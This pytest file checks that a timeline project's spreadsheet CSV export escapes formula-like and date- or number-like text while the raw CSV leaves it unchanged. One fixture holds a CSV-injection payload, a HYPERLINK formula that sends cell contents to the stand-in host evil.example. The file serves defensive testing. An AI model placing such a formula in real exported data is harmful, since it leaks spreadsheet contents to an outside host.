"""CSV: raw for machines, and one that a spreadsheet can open without running or changing anything."""

import pytest

from scomm_timeline.exports.csv_excel import needs_protection
from scomm_timeline.model.columns import BY_NAME
from tests.exports_read import csv_rows, in_corpus, without_apostrophes
from tests.release_builders import MAY, corpus, release, release_of
from tests.release_builders import reviewed as said
from tests.release_formats import published

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_a_formula_stands_unchanged_in_the_raw_variant():
    content = published("csv", release(said("a", "2031-02", MAY, quote=LINK)))
    assert csv_rows(content)[0]["text"] == LINK
    assert not content.startswith(b"\xef\xbb\xbf")


def test_a_formula_gets_an_apostrophe_for_a_spreadsheet_and_the_row_says_so():
    content = published("csv-excel", release(said("a", "2031-02", MAY, quote=LINK)))
    assert content.startswith(b"\xef\xbb\xbf")
    (row,) = csv_rows(content)
    assert row["text"] == f"'{LINK}"
    assert "text" in row["protected"].split("; ")
    assert without_apostrophes([row])[0]["text"] == LINK


def test_a_quotation_that_begins_with_an_apostrophe_of_its_own_keeps_that_one_only():
    content = published("csv-excel", release(said("a", "2031-02", MAY, quote="'Tis voluntary")))
    (row,) = csv_rows(content)
    assert row["text"] == "'Tis voluntary"
    assert "text" not in row["protected"].split("; ")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1+1",
        "002674", "0123", "12345678901234567",
        "2010-08", "08/2010", "8/17", "10:30", "1-2-2010", "Aug 2010", "August 2010", "10 May",
        "May 10, 2010", "1e5", "47.7", "1,000.50", "79%", "$5", "TRUE",
    ],
)  # fmt: skip
def test_what_a_spreadsheet_would_run_or_take_for_something_else_is_protected(text):
    assert needs_protection(BY_NAME["text"], text)


@pytest.mark.parametrize(
    "text",
    [
        "", "We do not see this", "79", "2010", "2010-08-17", "7 Sep 2010", "page 4", "May",
        "2010-08~", "between 1 Oct 2008 and 31 Jul 2010", "n=1", "p. 002674", "'quoted'",
        "March on Washington",
    ],
)  # fmt: skip
def test_what_a_spreadsheet_leaves_alone_is_left_alone(text):
    assert not needs_protection(BY_NAME["text"], text)


def test_a_bound_stays_the_day_that_it_is():
    assert not needs_protection(BY_NAME["made_earliest"], "2010-08-01")
    assert needs_protection(BY_NAME["made"], "2010-08")


def test_a_line_feed_a_quotation_mark_and_ten_thousand_characters_come_back():
    words = 'He said "no",\nthen | left; ' + "x" * 10_000
    set_ = corpus(said("a", "2031-02", MAY, quote=words))
    assert in_corpus(set_)["a"].text == words
    for name in ("csv", "csv-excel"):
        assert csv_rows(published(name, release_of(set_)))[0]["text"] == words


def test_an_empty_release_has_its_head_and_no_row():
    for name in ("csv", "csv-excel"):
        content = published(name, release(said("a", "2031-02", MAY, review=None)))
        assert csv_rows(content) == []
        assert b"made_earliest" in content
